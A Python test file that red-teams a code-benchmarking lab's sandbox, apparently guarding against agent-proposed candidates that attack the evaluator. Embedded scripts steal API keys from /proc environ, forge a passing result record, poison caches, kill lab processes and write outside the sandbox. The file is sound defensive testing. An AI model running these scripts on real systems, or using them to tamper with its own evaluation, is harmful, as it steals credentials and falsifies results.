"""Red team: one known-wrong cdot candidate per class of attack on the lab itself, each run through
the real `lab` command, each asserting that the lab holds: no KEEP, no leak of the key, nothing
written outside the stage, the cache intact (docs/security.md).

Each attack is C code whose constructor runs a Python script (as real candidate code could: the
C library runs in the worker, the script in a child of it) and whose `work` is honest: when the
attack finds nothing, the candidate is the incumbent's code and the verdict is SAME. Where an
attack succeeds it turns into a KEEP (a forged record), a FAIL with the stolen text in its reason
(theft), a CRASH (a killed runner) or a file or change outside the stage: the assertions say
which. The controls at the end run two attacks with --no-sandbox, to show they are real.

`--env docker` runs the same suite in a container of the published cdot image (skipped with the
reason where no engine runs).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import uuid
from pathlib import Path

import pytest

from lab import sandbox
from lab.cache import hash_folder
from lab.evaluate import CONTAINER_WORK

from conftest import REPO, lab_cli, locked_copy

pytestmark = pytest.mark.skipif(sandbox.mode() == "bwrap" and sandbox.describe() == "unavailable",
                                reason="bubblewrap cannot make a sandbox on this machine (apt-get install bubblewrap)")

KEY = "sk-ant-" + "api03-" + "RedTeamKey0" * 6  # fake; split so no tracked line looks like a key
TOKEN = "tok-" + uuid.uuid4().hex  # a secret of another shape: scrubbed by its value
DELTA = "0.1"  # an honest candidate is the incumbent's code: SAME at 10%; a forgery claims 4x
# What the incumbent's own code gets: SAME, or on a machine noisier than 10% WORSE; never KEEP,
# FAIL or CRASH, which an attack that got anywhere would give.
HONEST = ("SAME", "WORSE")

HONEST_WORK = """
double work(const double *x, long n)
{
    double s = 0.0;
    for (long i = 0; i < n; i++)
        s += x[i] * x[i];
    return s;
}
"""

# The constructor: write the script to the process's /tmp, run it (no stdin: the worker's pipes
# are its protocol), and if it left a loot file, put the loot in the error text and die, as a
# candidate that wants its findings in the record would.
ATTACK_C = r"""
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static const char script[] = "%(script)s";

__attribute__((constructor)) static void attack(void)
{
    char path[64], loot[64], cmd[256];
    snprintf(path, sizeof path, "/tmp/.attack-%%d.py", (int)getpid());
    snprintf(loot, sizeof loot, "/tmp/.loot-%%d", (int)getpid());
    FILE *f = fopen(path, "w");
    if (!f)
        return;
    fputs(script, f);
    fclose(f);
    snprintf(cmd, sizeof cmd, "python3 %%s %%s </dev/null >&2", path, loot);
    if (system(cmd) != 0)
        return;
    f = fopen(loot, "r");
    if (!f)
        return;
    char buf[4096];
    size_t got = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[got] = 0;
    if (got) {
        fprintf(stderr, "LOOT: %%s\n", buf);
        _exit(3);
    }
}
""" + HONEST_WORK

# Shared by the scripts: the processes this one can see, and where its loot goes.
PRELUDE = r"""
import hashlib, json, os, signal, sys
LOOT = sys.argv[1]
CONFIG = json.loads(%(config)r)

def processes():
    # Only this test's lab processes (their command lines name its runs folder) and its sentinel:
    # should the sandbox ever fail, other processes of the machine are still left alone.
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
            except OSError:
                continue
            line = b" ".join(argv)
            in_container = b"lab.runner" in line and CONFIG["container_work"].encode() in line
            if CONFIG["runs"].encode() in line or in_container or int(pid) == CONFIG["sentinel_pid"]:
                yield int(pid), argv

def loot(text):
    with open(LOOT, "a") as f:
        f.write(text + "\n")
"""

FORGE_RECORD = r"""
for pid, argv in processes():
    args = [a.decode(errors="replace") for a in argv]
    if "lab.runner" not in args or "--request" not in args:
        continue
    os.kill(pid, signal.SIGSTOP)  # the runner sends nothing more: the forged frame is the only one
    request_path = args[args.index("--request") + 1]
    extra = json.loads(args[args.index("--fingerprint-extra") + 1])
    try:
        request = json.load(open(request_path))
    except OSError:
        request = {"nonce": "", "check": [], "timing": 0}
    work = {"calls": 8, "elements": 262144}
    sample = lambda s: {"seconds": s, "value": 8 / s, "ok": True, "wall_seconds": s, "work": work}
    record = {"harness": "cdot", "nonce": request["nonce"], "mode": "evaluate",
              "seeds": request["check"] + [request["timing"]],
              "candidate_build": {"ok": True, "source_hash": extra.get("candidate_source", "")},
              "incumbent_build": {"ok": True, "source_hash": extra.get("incumbent_source", "")},
              "check": {"passed": True, "lines": ["FORGED check line"]}, "work": work,
              "pairs": [{"index": i, "order": "AB", "incumbent": sample(0.004), "candidate": sample(0.001)}
                        for i in range(60)]}
    text = json.dumps(record)
    digest = hashlib.sha256(text.encode()).hexdigest()
    frame = f"<<<lab-record {request['nonce']} {digest} {len(text)}\n{text}\n<<<lab-record-end {request['nonce']}\n"
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                descriptor = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(descriptor, frame.encode())
                os.close(descriptor)
        except OSError:
            pass
    try:
        with open(os.path.join(os.path.dirname(request_path), "record.json"), "w") as f:
            f.write(text)
    except OSError:
        pass
    os.kill(pid, signal.SIGKILL)
"""

POISON_CACHE = r"""
for root, dirs, files in os.walk(CONFIG["cache"]):
    for name in files:
        path = os.path.join(root, name)
        try:
            os.chmod(path, 0o644)
            with open(path, "wb") as f:
                f.write(b"POISON")
        except OSError:
            pass
for target in (os.path.join(CONFIG["cache"], "mlx", "reference"), os.path.join(CONFIG["cache"], "builds")):
    try:
        os.makedirs(target, exist_ok=True)
        open(os.path.join(target, "POISON"), "w").write("x")
    except OSError:
        pass
"""

STEAL_KEY = r"""
shape = "sk-" + "ant-"  # (not spelled out: the candidate's own source and library hold this text)
found = []
for pid, _ in processes():
    try:
        environ = open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
    except OSError:
        continue
    for item in environ.split("\0"):
        if shape in item or item.startswith(("ANTHROPIC_API_KEY=", "LAB_TEST_TOKEN=")):
            found.append(item)
found += [f"{k}={v}" for k, v in os.environ.items() if shape in v or k in ("ANTHROPIC_API_KEY", "LAB_TEST_TOKEN")]
if found:
    loot(" ".join(sorted(set(found))))
"""

READ_SECRETS = r"""
for pid, argv in processes():
    args = [a.decode(errors="replace") for a in argv]
    if "--request" in args:
        path = args[args.index("--request") + 1]
        try:
            loot("request " + open(path).read())
        except OSError:
            pass
for folder in (CONFIG["runs"], CONFIG["cache"], CONFIG["home"], CONFIG["repo"]):
    for root, dirs, files in os.walk(folder):
        # The Python installation is toolchain, readable by design (it may lie inside the
        # checkout, as .venv does in CI): the secrets are what must stay out of reach.
        dirs[:] = [d for d in dirs if not os.path.join(root, d).startswith(__import__("sys").prefix)]
        for name in files:
            if name in ("request.json", "seeds.json", "README.md", "lock.json") or name.endswith(".manifest.json"):
                try:
                    loot(f"{name} " + open(os.path.join(root, name)).read(200))
                except OSError:
                    pass
"""

SIGNAL_LAB = r"""
for pid, argv in processes():
    text = b" ".join(argv)
    if any(word in text for word in (b"lab.runner", b"lab.cli", CONFIG["sentinel"].encode())):
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
try:
    os.kill(CONFIG["sentinel_pid"], signal.SIGKILL)
except OSError:
    pass
"""

WRITE_OUTSIDE = r"""
for folder in (CONFIG["runs"], CONFIG["cache"], CONFIG["harness"], CONFIG["home"], CONFIG["tmp_marker_dir"],
               os.getcwd(), "/lib-candidate", "/harness"):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, CONFIG["marker"]), "w") as f:
            f.write("written by the candidate")
    except OSError:
        pass
for root, dirs, files in os.walk(CONFIG["runs"]):
    for name in dirs:
        try:
            with open(os.path.join(root, name, CONFIG["marker"]), "w") as f:
                f.write("written by the candidate")
        except OSError:
            pass
"""


def _c_string(text: str) -> str:
    return "".join("\\%03o" % b for b in text.encode())


def attack_source(script: str, config: dict) -> str:
    full = PRELUDE % {"config": json.dumps(config)} + script
    return ATTACK_C % {"script": _c_string(full)}


# --- the setting: a lab process holding the key, a harness, a cache, a run folder -----------------
@pytest.fixture(params=["native", "docker"])
def lab_env(request, tmp_path):
    if request.param == "docker":
        request.getfixturevalue("docker_client")
        harness, _, _ = request.getfixturevalue("published")
        return "docker", harness.root
    return "native", locked_copy(tmp_path / "cdot")


@pytest.fixture
def setting(lab_env, tmp_path, monkeypatch):
    env_name, harness_dir = lab_env
    cache = tmp_path / "cache"
    monkeypatch.setenv("LAB_CACHE", str(cache))
    home = tmp_path / "home"
    home.mkdir()
    (home / "credentials").write_text(f"ANTHROPIC_API_KEY={KEY}\n")
    marker_dir = Path("/tmp") / f"lab-redteam-{uuid.uuid4().hex[:8]}"
    sentinel = subprocess.Popen(["sleep", "600"], start_new_session=True)
    s = Setting(env_name, harness_dir, cache, tmp_path / "runs", home, tmp_path, marker_dir, sentinel)
    yield s
    sentinel.kill()
    sentinel.wait()
    shutil.rmtree(marker_dir, ignore_errors=True)


class Setting:
    def __init__(self, env_name, harness, cache, runs, home, tmp, marker_dir, sentinel):
        self.env_name, self.harness, self.cache, self.runs = env_name, harness, cache, runs
        self.home, self.tmp, self.marker_dir, self.sentinel = home, tmp, marker_dir, sentinel
        self.marker = f"PWNED-{uuid.uuid4().hex[:8]}"

    def config(self) -> dict:
        return {"cache": str(self.cache), "runs": str(self.runs), "home": str(self.home), "repo": str(REPO),
                "harness": str(self.harness), "tmp_marker_dir": str(self.marker_dir), "marker": self.marker,
                "sentinel": "sleep 600", "sentinel_pid": self.sentinel.pid,
                "container_work": CONTAINER_WORK + "/"}

    def tree(self, name: str, source: str) -> Path:
        tree = self.tmp / "trees" / name
        tree.mkdir(parents=True)
        (tree / "work.c").write_text(source)
        return tree

    def bench(self, tree: Path, *extra: str, env: dict | None = None):
        """`lab bench` of `tree` against the harness's own work.c, by a lab process that holds
        the key in its environment (so /proc/<lab>/environ has it)."""
        proc = lab_cli("bench", str(self.harness), "--src", str(tree), "--delta", DELTA, "--env", self.env_name,
                       "--runs", str(self.runs), "--json", *extra, cwd=REPO,
                       env={"ANTHROPIC_API_KEY": KEY, "LAB_TEST_TOKEN": TOKEN, "HOME": str(self.home),
                            "LAB_CACHE": str(self.cache), **(env or {})})
        assert proc.returncode == 0, proc.stdout + proc.stderr
        return json.loads(proc.stdout), proc

    def record(self, result: dict) -> dict:
        return json.loads(Path(result["record"]).read_text())

    def written_texts(self):
        """(path, text) of every file the lab wrote: run folders and the cache."""
        for folder in (self.runs, self.cache):
            for path in folder.rglob("*"):
                if path.is_file() and not path.is_symlink():
                    yield path, path.read_bytes().decode(errors="replace")

    def assert_no_leak(self, *texts: str) -> None:
        for text in texts:
            assert KEY not in text and TOKEN not in text and "sk-ant-" not in text
        for path, text in self.written_texts():
            assert KEY not in text and TOKEN not in text and "sk-ant-" not in text, f"the key leaked into {path}"

    def assert_nothing_written_outside(self) -> None:
        assert not self.marker_dir.exists(), "the candidate wrote to the host's /tmp"
        for folder in (self.runs, self.cache, self.harness, self.home, REPO):
            hits = [p for p in Path(folder).rglob(self.marker + "*")]
            assert not hits, f"the candidate wrote {hits}"

    def cache_snapshot(self) -> dict:
        return hash_folder(self.cache) if self.cache.exists() else {}

    def assert_cache_intact(self, before: dict) -> None:
        now = self.cache_snapshot()
        changed = {p for p in before if p in now and now[p] != before[p] and not p.endswith(".lock")}
        gone = {p for p in before if p not in now and not p.endswith(".lock")}
        assert not changed and not gone, f"the cache changed: {sorted(changed | gone)[:5]}"
        assert not [p for p in now if "POISON" in p]


def _warm_cache(s: Setting) -> dict:
    """An honest evaluation first, so that the cache holds the incumbent's build to attack."""
    result, _ = s.bench(s.tree("honest", HONEST_WORK.lstrip()))
    assert result["verdict"]["status"] in HONEST, result
    return s.cache_snapshot()


# --- one candidate per class ----------------------------------------------------------------------
@pytest.mark.slow
def test_forged_record_and_killed_runner(setting):
    s = setting
    result, proc = s.bench(s.tree("forge", attack_source(FORGE_RECORD, s.config())))
    assert result["verdict"]["status"] in HONEST, result  # the runner lived and timed it honestly
    record = s.record(result)
    assert "FORGED check line" not in json.dumps(record) and "FORGED" not in proc.stdout
    assert record["check"]["lines"] == ["correctness: pass"]


@pytest.mark.slow
def test_poisoned_build_cache_from_inside(setting):
    s = setting
    before = _warm_cache(s)
    result, _ = s.bench(s.tree("poison", attack_source(POISON_CACHE, s.config())))
    assert result["verdict"]["status"] != "KEEP", result
    s.assert_cache_intact(before)


@pytest.mark.slow
def test_poisoned_build_cache_from_outside_is_evicted_and_rebuilt(setting):
    """Whoever rewrites a cached artifact (here the test itself, with the slow candidate's bytes,
    as a lab without the sandbox would have let a candidate do) gets it evicted, never timed."""
    s = setting
    slow_tree = s.tree("slow", HONEST_WORK.replace("double s = 0.0;", "volatile double s = 0.0;").lstrip())
    slow, _ = s.bench(slow_tree)
    assert slow["verdict"]["status"] == "WORSE", slow
    record = s.record(slow)
    slow_artifact = Path(record["candidate_build"]["artifact"].replace("/cache", str(s.cache), 1)
                         if s.env_name == "docker" else record["candidate_build"]["artifact"])
    incumbent = Path(record["incumbent_build"]["artifact"])
    if s.env_name == "docker":
        pytest.skip("the container's build cache is a volume of the engine: tampered from outside only natively")
    os.chmod(incumbent, 0o644)
    shutil.copyfile(slow_artifact, incumbent)  # the incumbent's cached library is now the slow one
    whitespace = s.tree("whitespace", HONEST_WORK.lstrip() + "\n")
    result, proc = s.bench(whitespace)
    assert result["verdict"]["status"] in HONEST, result
    rebuilt = s.record(result)["incumbent_build"]
    assert "changed: libwork.so" in rebuilt["info"]["cache_evicted"]
    assert not rebuilt["cached"]
    log = (s.cache / "builds" / "cdot" / "evictions.log").read_text()
    assert "changed: libwork.so" in log


@pytest.mark.slow
def test_poisoned_reference_cache(setting):
    s = setting
    reference = s.cache / "mlx" / "reference" / "k"
    reference.mkdir(parents=True)
    (reference / "reference.json").write_text('{"bounds": {"logits_max_abs": 0.001}}')
    before = _warm_cache(s)
    result, _ = s.bench(s.tree("poison-ref", attack_source(POISON_CACHE, s.config())))
    assert result["verdict"]["status"] != "KEEP", result
    s.assert_cache_intact(before)
    assert (reference / "reference.json").read_text() == '{"bounds": {"logits_max_abs": 0.001}}'


@pytest.mark.slow
def test_key_theft_through_proc_environ(setting):
    s = setting
    result, proc = s.bench(s.tree("steal", attack_source(STEAL_KEY, s.config())))
    assert result["verdict"]["status"] in HONEST, result  # it found nothing to steal
    s.assert_no_leak(proc.stdout, proc.stderr)


@pytest.mark.slow
def test_key_theft_through_compiler_error_text(setting):
    s = setting
    source = f'#include "{s.home / "credentials"}"\n' + HONEST_WORK
    result, proc = s.bench(s.tree("include", source))
    assert result["verdict"]["status"] == "FAIL" and "build failed" in result["verdict"]["reason"]
    assert "No such file" in result["verdict"]["reason"]  # the file is not there for the compiler
    s.assert_no_leak(proc.stdout, proc.stderr)


@pytest.mark.slow
def test_reading_seeds_and_other_files(setting):
    s = setting
    _warm_cache(s)
    result, proc = s.bench(s.tree("read", attack_source(READ_SECRETS, s.config())))
    assert result["verdict"]["status"] in HONEST, result  # nothing was readable: no loot, no FAIL
    assert "LOOT" not in json.dumps(s.record(result))


@pytest.mark.slow
def test_signalling_the_lab(setting):
    s = setting
    result, proc = s.bench(s.tree("signal", attack_source(SIGNAL_LAB, s.config())))
    assert result["verdict"]["status"] in HONEST, result  # the runner was neither stopped nor killed
    assert s.sentinel.poll() is None, "the candidate killed a process of the lab's user"


@pytest.mark.slow
def test_writing_outside_the_stage(setting):
    s = setting
    before = _warm_cache(s)
    result, proc = s.bench(s.tree("write", attack_source(WRITE_OUTSIDE, s.config())))
    assert result["verdict"]["status"] in HONEST, result
    s.assert_nothing_written_outside()
    s.assert_cache_intact(before)


@pytest.mark.slow
def test_work_moved_to_another_process(setting):
    """The sample's time is the worker's CPU time: a candidate that computes in a child process
    (its CPU time then not the worker's) would look free. The worker cannot start one."""
    s = setting
    source = r"""
#include <unistd.h>
#include <sys/wait.h>
double work(const double *x, long n)
{
    int fds[2];
    if (pipe(fds) != 0)
        return -1.0;
    pid_t child = fork();
    if (child < 0)
        return -1.0;  /* no child: the honest fallback would be slow, this one is wrong */
    if (child == 0) {
        double s = 0.0;
        for (long i = 0; i < n; i++)
            s += x[i] * x[i];
        (void)!write(fds[1], &s, sizeof s);
        _exit(0);
    }
    double s = 0.0;
    (void)!read(fds[0], &s, sizeof s);
    waitpid(child, 0, 0);
    close(fds[0]);
    close(fds[1]);
    return s;
}
"""
    result, _ = s.bench(s.tree("fork", source))
    assert result["verdict"]["status"] == "FAIL", result


# --- controls: without the sandbox the same attacks are real (so the tests above mean something) ---
@pytest.mark.slow
def test_control_without_the_sandbox_the_forgery_is_kept(lab_env, setting):
    """--no-sandbox gives candidates the runner's view: natively the forged record is read as a
    KEEP, and the verdict says the run had no sandbox (why the sandbox is not optional). In a
    container the runner is PID 1, which the candidate can neither stop nor kill: its own record
    and the forged one collide, and the lab refuses both (CRASH)."""
    s = setting
    result, _ = s.bench(s.tree("forge", attack_source(FORGE_RECORD, s.config())), "--no-sandbox")
    assert result["sandbox"] == "none (--no-sandbox)"
    if s.env_name == "docker":
        assert result["verdict"]["status"] == "CRASH" and "without a record" in result["reason"], result
    else:
        assert result["verdict"]["status"] == "KEEP", result


@pytest.mark.slow
def test_control_without_the_sandbox_a_stolen_key_is_still_scrubbed(lab_env, setting):
    """Natively without the sandbox the candidate does read the key from the lab's
    /proc/<pid>/environ and puts it in its error text; the scrubber keeps it out of every file and
    of the output. In a container the lab's processes are out of sight even without the sandbox."""
    s = setting
    result, proc = s.bench(s.tree("steal", attack_source(STEAL_KEY, s.config())), "--no-sandbox")
    if s.env_name == "docker":
        assert result["verdict"]["status"] in HONEST, result
    else:
        assert result["verdict"]["status"] == "FAIL" and "LOOT" in result["reason"], result
        assert "[redacted]" in result["reason"]
    s.assert_no_leak(proc.stdout, proc.stderr)


# --- the mlx harness's cached oracle reference ------------------------------------------------------
def test_poisoned_mlx_reference_is_evicted_and_recomputed(tmp_path, monkeypatch):
    """The mlx oracle's reference (its bounds decide what a candidate may get wrong) is cached;
    loosening its bounds in the cache, as the issue's attack did, gets it evicted and computed
    again by the trusted reference pipeline, never used."""
    pytest.importorskip("numpy")
    import numpy as np

    from lab.harness import load

    try:
        harness = load(REPO / "harnesses" / "mlx")
    except Exception as exc:  # mlx missing: the harness module still imports; anything else is a bug
        pytest.skip(f"the mlx harness does not load here: {exc}")
    oracle = sys.modules[type(harness).__module__.rsplit(".", 1)[0] + ".oracle"]
    made = []

    def compute(worker, corpus):
        made.append(worker)
        return oracle.Reference(greedy=[[1, 2]], perplexity=3.0, bounds={"logits_max_abs": 0.01},
                                calibration={}, device="cpu", seconds=0.1, scored_logits=np.zeros((2, 3), np.float32))

    monkeypatch.setattr(oracle, "compute_reference", compute)
    folder = tmp_path / "cache" / "mlx" / "reference" / "key"
    first = oracle.reference(folder, lambda: "worker", [1, 2, 3])
    assert oracle.reference(folder, lambda: "worker", [1, 2, 3]).bounds == first.bounds and len(made) == 1
    meta = folder / "reference.json"
    os.chmod(meta, 0o644)
    meta.write_text(meta.read_text().replace("0.01", "1000.0"))  # loosened bounds
    again = oracle.reference(folder, lambda: "worker", [1, 2, 3])
    assert len(made) == 2 and again.bounds == {"logits_max_abs": 0.01}
    assert "changed: reference.json" in (folder.parent / "evictions.log").read_text()


def test_poisoned_llamacpp_model_is_evicted_and_assembled_again(tmp_path, monkeypatch):
    """The llama.cpp harness's default model, assembled into the cache: a changed file is evicted
    and assembled again from the package (here a stand-in for it), never used."""
    import types

    from lab.harness import load

    try:
        harness = load(REPO / "harnesses" / "llamacpp")
    except Exception as exc:
        pytest.skip(f"the llamacpp harness does not load here: {exc}")
    models = sys.modules[type(harness).__module__.rsplit(".", 1)[0] + ".model"]
    assembled = []

    def assemble(path, overwrite=False):
        assembled.append(path)
        Path(path).write_bytes(b"GGUF the pinned model")

    monkeypatch.setitem(sys.modules, models.MODULE,
                        types.SimpleNamespace(EXPECTED_SHA256=models.DEFAULT_SHA256, assemble=assemble))
    models.default_model.cache_clear()
    path = models.default_model(tmp_path)
    models.default_model.cache_clear()
    assert models.default_model(tmp_path) == path and len(assembled) == 1
    os.chmod(path, 0o644)
    path.write_bytes(b"GGUF another model")
    models.default_model.cache_clear()
    assert models.default_model(tmp_path).read_bytes() == b"GGUF the pinned model" and len(assembled) == 2
    assert "changed: " + path.name in (path.parent.parent / "evictions.log").read_text()
    models.default_model.cache_clear()


@pytest.mark.slow
def test_a_key_in_the_hypothesis_and_the_patch_is_written_nowhere(cdot, tmp_path, monkeypatch):
    """What an agent returns may hold the key: the ledger, the events, log.md, results.tsv, the
    record, the run's worktree and its commits never do (the same gate as `lab try` and the loop)."""
    from lab.agents import Proposal
    from lab.envs import get
    from lab.loop import Lab, Settings

    monkeypatch.setenv("ANTHROPIC_API_KEY", KEY)
    monkeypatch.setenv("LAB_TEST_TOKEN", TOKEN)
    patch = ("diff --git a/work.c b/work.c\n--- a/work.c\n+++ b/work.c\n@@ -1,3 +1,3 @@\n"
             "-/* The editable surface of the cdot test harness: the sum of squares of x[0..n). */\n"
             f"+/* The editable surface of the cdot test harness: {KEY} {TOKEN} */\n"
             " double work(const double *x, long n)\n {\n")
    lab = Lab.start(cdot, tmp_path / "runs", get("native", cdot), Settings(delta=0.1, confirm=False, agent="manual"),
                    kind="try")
    event = lab.experiment(Proposal(patch=patch, hypothesis=f"faster with {KEY} and {TOKEN}"))
    assert event["verdict"]["status"] in ("SAME", "WORSE", "KEEP"), event
    assert "[redacted]" in event["description"]
    for path in (tmp_path / "runs").rglob("*"):
        if path.is_file() and ".git" not in path.parts:
            text = path.read_bytes().decode(errors="replace")
            assert KEY not in text and TOKEN not in text, f"a secret was written to {path}"
    history = subprocess.run(["git", "log", "--all", "--reflog", "-p"], cwd=lab.folder.worktree,
                             capture_output=True, text=True).stdout  # the candidate's commit, reset but kept
    leaks = [line for line in history.splitlines() if KEY in line or TOKEN in line]
    assert not leaks and "[redacted]" in history, leaks[:5]


@pytest.mark.slow
def test_the_sandbox_is_part_of_the_fingerprint(tmp_path):
    """A result measured without the sandbox is never set beside one measured in it."""
    harness = locked_copy(tmp_path / "cdot")
    runs = tmp_path / "runs"

    def check(*extra):
        out = lab_cli("check", str(harness), "--runs", str(runs), "--json", *extra, cwd=REPO)
        assert out.returncode == 0, out.stderr
        return json.loads(out.stdout)

    sandboxed, bare = check(), check("--no-sandbox")
    assert sandboxed["sandbox"].startswith("bubblewrap") and bare["sandbox"] == "none (--no-sandbox)"
    assert json.loads(Path(bare["record"]).read_text())["fingerprint"]["sandbox"] == "none (--no-sandbox)"
    same = lab_cli("bench", str(harness), "--runs", str(runs), "--against-record", sandboxed["record"], cwd=REPO)
    assert same.returncode == 0, same.stderr
    assert "sandbox: bubblewrap" in same.stdout
    refused = lab_cli("bench", str(harness), "--runs", str(runs), "--against-record", bare["record"], cwd=REPO)
    assert refused.returncode == 2 and "sandbox" in refused.stderr and "never compared" in refused.stderr
